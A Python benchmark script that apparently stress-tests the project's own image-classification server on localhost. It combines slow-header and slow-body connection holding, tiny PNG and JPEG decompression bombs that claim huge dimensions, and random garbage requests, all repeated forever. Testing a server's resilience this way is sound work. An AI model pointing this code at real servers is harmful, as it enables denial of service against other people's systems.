"""Attacks a server until it is killed; serve_load.py runs it as a process of its own.

python -m benchmarks.serve_attack PORT SLOW_HEADS SLOW_BODIES BOMBS_PER_SECOND
"""

import asyncio
import contextlib
import random
import struct
import sys
import zlib
from collections.abc import Awaitable, Callable

_HOST = "127.0.0.1"
_TRICKLE_SECONDS = 1.0
SPREAD_SECONDS = 5.0  # in which the attackers come
_HEAD = b"POST /classify?top_k=1000 HTTP/1.1\r\nHost: x\r\n"


async def hold(port: int, first: bytes, piece: bytes) -> None:
    """Holds a connection by sending a piece of a request every second."""
    reader, writer = await asyncio.open_connection(_HOST, port)
    with contextlib.closing(writer):
        writer.write(first)
        while not reader.at_eof():
            writer.write(piece)
            await writer.drain()
            with contextlib.suppress(asyncio.TimeoutError):
                await asyncio.wait_for(reader.read(65536), _TRICKLE_SECONDS)


async def send(port: int, data: bytes) -> bytes:
    """Sends a request on a connection of its own; what comes back."""
    reader, writer = await asyncio.open_connection(_HOST, port)
    with contextlib.closing(writer):
        writer.write(data)
        return await reader.read(65536)


def bombs() -> list[bytes]:
    """Files of less than 3 KB that claim to be pictures of hundreds of megabytes.

    A PNG of which there is the header alone, and a JPEG that decoders do not refuse: what is
    missing of its data they fill up.
    """
    header = b"IHDR" + struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + header
    png += struct.pack(">I", zlib.crc32(header)) + b"\0\0\0\0IEND\xaeB`\x82"
    return [png, _grey_jpeg(12_000, 12_000)]


def _grey_jpeg(width: int, height: int) -> bytes:
    """A baseline JPEG with tables of one code each, and 2 KB of data (ITU-T T.81, annex B)."""

    def segment(marker: int, content: bytes) -> bytes:
        return bytes((0xFF, marker)) + struct.pack(">H", 2 + len(content)) + content

    quantization = segment(0xDB, b"\x00" + b"\x01" * 64)
    frame = segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    one_code = b"\x01" + b"\x00" * 15 + b"\x00"
    tables = segment(0xC4, b"\x00" + one_code) + segment(0xC4, b"\x10" + one_code)
    scan = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\x00" * 2048
    return b"\xff\xd8" + quantization + frame + tables + scan + b"\xff\xd9"


def request(picture: bytes) -> bytes:
    """A request for the probabilities of all classes of a picture."""
    return _HEAD + b"Content-Length: %d\r\n\r\n" % len(picture) + picture


async def attack(port: int, slow_heads: int, slow_bodies: int, bombs_per_second: int) -> None:
    """Does all of it at once, for ever."""
    noise = random.Random(0)
    files = bombs()

    async def slow_head() -> None:
        await hold(port, _HEAD, b"X: x\r\n")

    async def slow_body() -> None:
        await hold(port, _HEAD + b"Content-Length: 1000000\r\n\r\n", b"x")

    async def bomb() -> None:
        await send(port, request(noise.choice(files)))
        await asyncio.sleep(1)

    async def garbage() -> None:
        await send(port, noise.randbytes(1000))
        await asyncio.sleep(0.5)

    counts = {slow_head: slow_heads, slow_body: slow_bodies, bomb: bombs_per_second, garbage: 10}
    deeds = [deed for deed, count in counts.items() for _ in range(count)]
    await asyncio.gather(*(_repeat(deed, noise.uniform(0, SPREAD_SECONDS)) for deed in deeds))


async def _repeat(deed: Callable[[], Awaitable[None]], delay: float) -> None:
    await asyncio.sleep(delay)
    while True:
        with contextlib.suppress(OSError):
            await deed()


if __name__ == "__main__":
    asyncio.run(attack(*map(int, sys.argv[1:])))
